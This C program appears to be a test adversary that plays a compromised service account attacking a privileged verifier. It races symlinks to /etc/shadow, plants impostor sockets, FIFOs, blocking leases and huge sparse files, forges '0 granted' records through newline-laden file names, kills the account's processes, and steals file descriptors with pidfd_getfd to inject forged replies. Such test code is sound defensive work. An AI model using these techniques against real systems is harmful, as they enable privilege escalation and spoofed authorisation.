/*
 * What a service account that was taken over can do to whoever proves what it may. It runs as that account, in a
 * directory that is its own, makes UP when it is at work, and goes on until it is killed.
 *
 *   hostile UP DIR links NAME   NAME is a link to /etc/hostname, one to /etc/shadow, a file, for ever
 *   hostile UP DIR socket NAME  NAME is a socket of its own, with the group and the mode of the one before
 *   hostile UP DIR fifo NAME    NAME is a FIFO
 *   hostile UP DIR lease NAME   NAME is a file that it holds a lease of: who opens it waits
 *   hostile UP DIR sparse NAME  NAME is a file of 1 TiB without a block
 *   hostile UP DIR names        names that look like records of a frame and like words of an attempt
 *   hostile UP DIR kill         kills all that runs as this account but itself
 *   hostile UP DIR steal        takes descriptors of every process of this account; STOLEN is made where that is let
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static void up(const char *path)
{
	close(open(path, O_WRONLY | O_CREAT, 0666));
}

static int made(const char *name)
{
	unlink(name);
	return open(name, O_RDWR | O_CREAT | O_EXCL, 0640);
}

static void links(const char *name)
{
	static unsigned turn;
	unlink("next");
	switch (turn++ % 3) {
	case 0: (void)!symlink("/etc/hostname", "next"); break;
	case 1: (void)!symlink("/etc/shadow", "next"); break;
	case 2: close(made("next")); break;
	}
	rename("next", name);
}

static void impostor(const char *name)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	struct stat was;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	stat(name, &was);
	unlink(name);
	strncpy(at.sun_path, name, sizeof at.sun_path - 1);
	if (bind(fd, (struct sockaddr *)&at, sizeof at) || listen(fd, 9) || chmod(name, 0660) || chown(name, -1, was.st_gid))
		exit(1);
}

static void steal(void)
{
	DIR *all = opendir("/proc");
	struct dirent *one;
	while ((one = readdir(all))) {
		pid_t pid = atoi(one->d_name);
		int fd = pid > 0 && pid != getpid() ? syscall(SYS_pidfd_open, pid, 0) : -1;
		struct stat who;
		char path[32];
		if (fd < 0)
			continue;
		snprintf(path, sizeof path, "/proc/%d", pid);
		int got = stat(path, &who) || who.st_uid != getuid() ? -1 : syscall(SYS_pidfd_getfd, fd, 1, 0);
		if (got >= 0) {
			up("STOLEN");
			(void)!write(got, "0 granted\n", 10);
			close(got);
		}
		close(fd);
	}
	closedir(all);
}

int main(int argc, char **argv)
{
	const char *what = argc > 3 ? argv[3] : "", *name = argc > 4 ? argv[4] : "";
	if (argc < 4 || chdir(argv[2]))
		return 2;
	umask(0);
	signal(SIGTERM, SIG_IGN);
	signal(SIGIO, SIG_IGN);
	if (!strcmp(what, "socket"))
		impostor(name);
	if (!strcmp(what, "fifo") && (unlink(name), mkfifo(name, 0640)))
		return 1;
	if (!strcmp(what, "lease")) {
		int fd = made(name);
		if (write(fd, "x", 1) != 1 || fcntl(fd, F_SETLEASE, F_WRLCK))
			return 1;
	}
	if (!strcmp(what, "sparse") && ftruncate(made(name), 1LL << 40))
		return 1;
	if (!strcmp(what, "names")) {
		close(made("x\ncontrol end\n0 granted"));
		close(made("x\n\n@0 kf end"));
	}
	up(argv[1]);
	for (;;) {
		if (!strcmp(what, "links"))
			links(name);
		else if (!strcmp(what, "kill"))
			kill(-1, SIGKILL);
		else if (!strcmp(what, "steal"))
			steal();
		else
			pause();
	}
}
